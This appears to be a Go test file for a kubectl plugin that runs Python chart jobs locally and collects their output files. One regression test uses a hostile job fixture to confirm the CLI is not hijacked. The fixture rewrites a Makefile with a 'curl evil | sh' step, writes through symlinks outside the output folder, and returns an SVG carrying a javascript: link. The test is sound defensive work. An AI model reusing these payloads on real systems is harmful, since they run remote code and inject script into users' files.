package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/cli-runtime/pkg/genericclioptions"
	"k8s.io/cli-runtime/pkg/genericiooptions"
)

// runCLI runs the plugin's root command with args and returns stdout, stderr and the
// exit code main would use.
func runCLI(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	return runCLIWith(t, nil, args...)
}

// runCLIWith runs the root command bound to config (nil: kubectl's default flags).
func runCLIWith(t *testing.T, config *genericclioptions.ConfigFlags, args ...string) (string, string, int) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	streams := genericiooptions.IOStreams{In: strings.NewReader(""), Out: &stdout, ErrOut: &stderr}
	if config == nil {
		config = genericclioptions.NewConfigFlags(true).WithWarningPrinter(streams)
	}
	root := newRootCommandWith(streams, config)
	root.SetArgs(args)
	code := 0
	if err := root.Execute(); err != nil {
		code = exitCode(err)
		stderr.WriteString("error: " + err.Error())
	}
	return stdout.String(), stderr.String(), code
}

func TestExecCommand(t *testing.T) {
	dir := t.TempDir()
	write := func(name, content string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	chart := write("chart.py", "import matplotlib.pyplot as plt\nplt.bar(['a', 'b'], [df['v'].sum(), 2])\nplt.show()\nprint('done')")
	data := write("data.csv", "v\n1\n2\n")
	failing := write("fail.py", "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\nraise ValueError('bad input')")
	slow := write("slow.py", "while True:\n    pass")

	type want struct {
		code      int
		success   bool
		errName   string
		artifacts []string // names
		stderrHas string
	}
	tests := map[string]struct {
		args []string
		json bool
		want want
	}{
		"chart with data and two formats": {
			args: []string{"exec", "--local", chart, "--data", data, "--format", "png,svg", "--json"},
			json: true,
			want: want{success: true, artifacts: []string{"figure_1.png", "figure_1.svg"}},
		},
		"failing code keeps its chart and exits 1": {
			args: []string{"exec", "--local", failing, "--json"},
			json: true,
			want: want{code: 1, errName: "ValueError", artifacts: []string{"figure_1.png"}},
		},
		"timeout exits 1": {
			args: []string{"exec", "--local", slow, "--timeout", "1s", "--json"},
			json: true,
			want: want{code: 1, errName: "Timeout", artifacts: []string{}},
		},
		"human output": {
			args: []string{"exec", "--local", chart, "--data", data},
			want: want{stderrHas: "figure_1.png"},
		},
		"without --local": {
			args: []string{"exec", chart},
			want: want{code: 2, stderrHas: "only with --local"},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			out := t.TempDir()
			stdout, stderr, code := runCLI(t, append(tc.args, "-o", out)...)
			if code != tc.want.code {
				t.Fatalf("exit code %d, want %d\nstdout: %s\nstderr: %s", code, tc.want.code, stdout, stderr)
			}
			if !strings.Contains(stderr, tc.want.stderrHas) {
				t.Errorf("stderr %q does not contain %q", stderr, tc.want.stderrHas)
			}
			if !tc.json {
				return
			}
			var got execOutput
			if err := json.Unmarshal([]byte(stdout), &got); err != nil {
				t.Fatalf("--json output is not JSON: %v\n%s", err, stdout)
			}
			names := []string{}
			for _, a := range got.Artifacts {
				names = append(names, a.Name)
				data, err := os.ReadFile(filepath.Join(out, a.Name))
				if err != nil {
					t.Errorf("artifact %s not written: %v", a.Name, err)
					continue
				}
				sum := sha256.Sum256(data)
				if a.SHA256 != hex.EncodeToString(sum[:]) || a.SizeBytes != len(data) || a.MIMEType == "" {
					t.Errorf("artifact %s: sha256/size/mime %s/%d/%q do not match the file", a.Name, a.SHA256, a.SizeBytes, a.MIMEType)
				}
			}
			gotErr := ""
			if got.Error != nil {
				gotErr = got.Error.Name
			}
			if diff := cmp.Diff(tc.want, want{code: code, success: got.Success, errName: gotErr, artifacts: names, stderrHas: tc.want.stderrHas}, cmp.AllowUnexported(want{})); diff != "" {
				t.Errorf("result (-want +got):\n%s", diff)
			}
		})
	}
}

func TestExecCommandUsageErrors(t *testing.T) {
	tests := map[string][]string{
		"no file":      {"exec", "--local"},
		"missing file": {"exec", "--local", "/nonexistent/chart.py"},
	}
	for name, args := range tests {
		t.Run(name, func(t *testing.T) {
			_, _, code := runCLI(t, args...)
			if code == 0 {
				t.Error("exit code 0, want a failure")
			}
		})
	}
}

// TestExecWritesOnlyIntoTheOutputDir: issue 10, finding 1. The CLI wrote every file a
// job left in its working directory at its relative path, with os.WriteFile: a job
// replaced ./Makefile, wrote through a symlink into a sibling directory, and an SVG
// with a javascript: link came back as it was.
func TestExecWritesOnlyIntoTheOutputDir(t *testing.T) {
	base := t.TempDir()
	code := filepath.Join(base, "job.py")
	job := `import os, matplotlib.pyplot as plt
plt.plot([1, 2]); plt.show()
open('Makefile', 'w').write('all:\n\tcurl evil | sh\n')
open('notes.txt', 'w').write('scratch')
os.makedirs(OUTPUT_DIR + '/evil', exist_ok=True)
open(OUTPUT_DIR + '/evil/planted.txt', 'w').write('through the link')
open(OUTPUT_DIR + '/table.csv', 'w').write('a,b\n1,2\n')
open(OUTPUT_DIR + '/link.svg', 'w').write('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a></svg>')
`
	if err := os.WriteFile(code, []byte(job), 0o644); err != nil {
		t.Fatal(err)
	}
	// The output directory holds the user's own Makefile, a symlink to a sibling
	// directory named like the job's subfolder, and a symlink named like a figure.
	setup := func(t *testing.T) (out, sibling, victim string) {
		root := t.TempDir()
		out, sibling, victim = filepath.Join(root, "out"), filepath.Join(root, "sibling"), filepath.Join(root, "victim.txt")
		for _, d := range []string{out, sibling} {
			if err := os.Mkdir(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.WriteFile(filepath.Join(out, "Makefile"), []byte("mine"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(victim, []byte("untouched"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(sibling, filepath.Join(out, "evil")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(victim, filepath.Join(out, "figure_1.png")); err != nil {
			t.Fatal(err)
		}
		return out, sibling, victim
	}
	check := func(t *testing.T, out, sibling, victim string, written bool) {
		t.Helper()
		if b, _ := os.ReadFile(filepath.Join(out, "Makefile")); string(b) != "mine" {
			t.Errorf("the user's Makefile was replaced: %q", b)
		}
		if b, _ := os.ReadFile(victim); string(b) != "untouched" {
			t.Errorf("a write followed the figure_1.png symlink: victim now %q", b)
		}
		if entries, _ := os.ReadDir(sibling); len(entries) != 0 {
			t.Errorf("a write went through the evil/ symlink into the sibling directory: %v", entries)
		}
		if _, err := os.Stat(filepath.Join(out, "notes.txt")); err == nil {
			t.Errorf("notes.txt, outside the job's output folder, was written")
		}
		if !written {
			return
		}
		if b, err := os.ReadFile(filepath.Join(out, "link.svg")); err != nil || bytes.Contains(b, []byte("javascript")) {
			t.Errorf("link.svg not sanitized (err %v): %s", err, b)
		}
		if b, _ := os.ReadFile(filepath.Join(out, "planted.txt")); string(b) != "through the link" {
			t.Errorf("outputs/evil/planted.txt should land flat in the output directory, got %q", b)
		}
	}

	t.Run("without --overwrite an existing name is an error", func(t *testing.T) {
		out, sibling, victim := setup(t)
		_, stderr, code := runCLI(t, "exec", "--local", code, "-o", out, "--json")
		if code == 0 || !strings.Contains(stderr, "figure_1.png already exists") {
			t.Errorf("exit %d, stderr %q; want a failure naming figure_1.png", code, stderr)
		}
		check(t, out, sibling, victim, false)
		if fi, err := os.Lstat(filepath.Join(out, "figure_1.png")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Errorf("the user's figure_1.png symlink was replaced without --overwrite")
		}
	})
	t.Run("--overwrite replaces the symlink, never its target", func(t *testing.T) {
		out, sibling, victim := setup(t)
		stdout, stderr, code := runCLI(t, "exec", "--local", code, "-o", out, "--overwrite", "--json")
		if code != 0 {
			t.Fatalf("exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
		}
		check(t, out, sibling, victim, true)
		fi, err := os.Lstat(filepath.Join(out, "figure_1.png"))
		if err != nil || !fi.Mode().IsRegular() {
			t.Errorf("figure_1.png is not a regular file: %v %v", fi, err)
		}
		var got execOutput
		if err := json.Unmarshal([]byte(stdout), &got); err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, a := range got.Artifacts {
			names = append(names, a.Name)
		}
		if diff := cmp.Diff([]string{"figure_1.png", "link.svg", "table.csv", "planted.txt"}, names); diff != "" {
			t.Errorf("artifacts (-want +got):\n%s", diff)
		}
		leftovers, _ := filepath.Glob(filepath.Join(out, ".vizops-*"))
		if len(leftovers) != 0 {
			t.Errorf("temporary files left: %v", leftovers)
		}
	})
}

// exec --local writes plotly.min.js, from the local plotly installation, beside the
// HTML chart it makes, and points the chart at it; a second run into the same
// directory keeps the identical plotly.min.js without --overwrite.
func TestExecWritesPlotlyJSBesideHTML(t *testing.T) {
	code := filepath.Join(t.TempDir(), "chart.py")
	if err := os.WriteFile(code, []byte("import plotly.graph_objects as go\ngo.Figure(go.Bar(x=['a', 'b'], y=[1, 2])).show()\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	stdout, stderr, exit := runCLI(t, "exec", "--local", code, "-o", out, "--json")
	if exit != 0 {
		t.Fatalf("exit %d\nstdout %s\nstderr %s", exit, stdout, stderr)
	}
	if !strings.Contains(stderr, "plotly.min.js (plotly.js for the HTML charts)") {
		t.Errorf("stderr %q", stderr)
	}
	lib, err := os.ReadFile(filepath.Join(out, "plotly.min.js"))
	if err != nil || !bytes.Contains(lib[:min(len(lib), 200)], []byte("plotly.js v")) {
		t.Fatalf("plotly.min.js: %v", err)
	}
	var got execOutput
	if err := json.Unmarshal([]byte(stdout), &got); err != nil {
		t.Fatal(err)
	}
	var html []byte
	for _, a := range got.Artifacts {
		if strings.HasSuffix(a.Name, ".html") {
			if html, err = os.ReadFile(a.Path); err != nil {
				t.Fatal(err)
			}
			sum := sha256.Sum256(html)
			if a.SHA256 != hex.EncodeToString(sum[:]) || a.SizeBytes != len(html) {
				t.Errorf("%s: the JSON's sha256 and size are not those of the file written", a.Name)
			}
		}
	}
	if !bytes.Contains(html, []byte(`<script src="plotly.min.js" charset="utf-8"></script>`)) || bytes.Contains(html, []byte("cdn.plot.ly")) {
		t.Errorf("the HTML does not load the local plotly.min.js:\n%.2000s", html)
	}
	if _, stderr, exit := runCLI(t, "exec", "--local", code, "-o", out); exit != 1 || !strings.Contains(stderr, "plotly_1.html already exists") {
		t.Errorf("second run: exit %d, %s; want the HTML (not plotly.min.js) to be the name already taken", exit, stderr)
	}
}
